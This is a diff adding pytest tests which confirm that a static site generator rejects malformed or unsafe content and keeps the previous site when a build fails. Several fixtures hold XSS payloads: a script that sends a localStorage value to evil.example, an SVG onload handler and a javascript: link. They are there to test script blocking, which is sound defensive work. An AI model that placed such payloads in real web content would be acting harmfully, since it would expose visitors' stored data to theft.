@@ -1,0 +1,134 @@
+"""Content the build can trust: `check` sees what `build` sees, strict means strict, and content
+cannot carry scripts. Each case is made from the tiny second topic by one small change."""
+
+from __future__ import annotations
+
+import hashlib
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import run_python
+
+
+def _digest(folder: Path) -> str:
+    digest = hashlib.sha256()
+    for path in sorted(folder.rglob("*")):
+        digest.update(str(path.relative_to(folder)).encode())
+        if path.is_file():
+            digest.update(path.read_bytes())
+    return digest.hexdigest()
+
+
+def _check(topic: Path) -> tuple[int, str]:
+    result = run_python("-m", "generator", "check", cwd=topic)
+    assert "Traceback" not in result.stdout + result.stderr, result.stderr
+    return result.returncode, result.stderr
+
+
+def _page(topic: Path) -> Path:
+    return topic / "content" / "pages" / "index.md"
+
+
+# case → (change, file named, field named, words of the message)
+def _upper_md(topic: Path) -> None:
+    _page(topic).rename(_page(topic).with_name("extra.MD"))
+    (topic / "content" / "pages" / "index.md").write_text(
+        (topic / "content" / "pages" / "extra.MD").read_text(encoding="utf-8"), encoding="utf-8"
+    )
+
+
+def _two_sources(topic: Path) -> None:
+    folder = topic / "content" / "pages" / "sources"
+    folder.mkdir()
+    (folder / "index.md").write_text(
+        (topic / "content" / "pages" / "sources.md").read_text(encoding="utf-8"), encoding="utf-8"
+    )
+
+
+def _latin1_page(topic: Path) -> None:
+    _page(topic).write_bytes(_page(topic).read_bytes() + "Caf\u00e9\n".encode("latin-1"))
+
+
+def _latin1_fragment(topic: Path) -> None:
+    (topic / "content" / "fragments").mkdir(exist_ok=True)
+    (topic / "content" / "fragments" / "note.md").write_bytes("Cr\u00e8me\n".encode("latin-1"))
+
+
+def _script_in_page(topic: Path) -> None:
+    with _page(topic).open("a", encoding="utf-8") as handle:
+        handle.write('\n<script>fetch("https://evil.example/?" + localStorage.getItem("x"))</script>\n')
+
+
+def _handler_in_figure(topic: Path) -> None:
+    (topic / "content" / "figures").mkdir(exist_ok=True)
+    (topic / "content" / "figures" / "loaf.svg").write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><title>A loaf</title></svg>\n', encoding="utf-8"
+    )
+
+
+def _script_in_fragment(topic: Path) -> None:
+    (topic / "content" / "fragments").mkdir(exist_ok=True)
+    (topic / "content" / "fragments" / "note.md").write_text('[hi](javascript:alert(1))\n', encoding="utf-8")
+
+
+CASES = {
+    "page with .MD": (_upper_md, "content/pages/extra.MD", "(whole file)", "must end in lowercase '.md'"),
+    "two sources for one page": (_two_sources, "content/pages/sources/index.md", "(whole file)", "second page"),
+    "non-UTF-8 page": (_latin1_page, "content/pages/index.md", "byte ", "is not UTF-8 text"),
+    "non-UTF-8 fragment": (_latin1_fragment, "content/fragments/note.md", "byte ", "is not UTF-8 text"),
+    "script in a page": (_script_in_page, "content/pages/index.md", "line ", "may not carry scripts"),
+    "handler in a figure": (_handler_in_figure, "content/figures/loaf.svg", "line 1", "may not carry scripts"),
+    "javascript link in a fragment": (_script_in_fragment, "content/fragments/note.md", "line 1", "'javascript:'"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(CASES))
+def test_check_names_the_file_and_field(case: str, tiny_topic: Path) -> None:
+    change, file, field, words = CASES[case]
+    change(tiny_topic)
+    code, err = _check(tiny_topic)
+    assert code != 0
+    lines = [line for line in err.splitlines() if file in line]
+    assert any(field in line and words in line for line in lines), err
+
+
+def test_a_byte_order_mark_is_accepted(tiny_topic: Path) -> None:
+    _page(tiny_topic).write_bytes(b"\xef\xbb\xbf" + _page(tiny_topic).read_bytes())
+    code, err = _check(tiny_topic)
+    assert code == 0, err
+
+
+@pytest.mark.build
+@pytest.mark.parametrize(
+    ("change", "words"),
+    [
+        ("broken link", "contains a link 'nowhere.md'"),
+        ("stale nav entry", "nav"),
+        ("script in a page", "may not carry scripts"),
+    ],
+)
+def test_build_fails_where_strict_mkdocs_would_and_keeps_the_earlier_site(
+    tiny_topic: Path, change: str, words: str
+) -> None:
+    first = run_python("-m", "generator", "build", cwd=tiny_topic)
+    assert first.returncode == 0, first.stderr
+    site = tiny_topic / "site"
+    before = _digest(site)
+    if change == "broken link":
+        with _page(tiny_topic).open("a", encoding="utf-8") as handle:
+            handle.write("\nSee [the other page](nowhere.md).\n")
+    elif change == "stale nav entry":
+        config = tiny_topic / "mkdocs.yml"
+        nav = "  - Sources: sources.md"
+        stale = config.read_text(encoding="utf-8").replace(nav, f"{nav}\n  - Gone: gone.md")
+        config.write_text(stale, encoding="utf-8")
+    else:
+        _script_in_page(tiny_topic)
+    result = run_python("-m", "generator", "build", cwd=tiny_topic)
+    assert result.returncode != 0
+    assert "Traceback" not in result.stderr
+    assert words in result.stderr, result.stderr
+    assert f"Build failed; {site} was left as it was." in result.stderr
+    assert _digest(site) == before
+    assert not list(tiny_topic.glob(".site-build-*"))
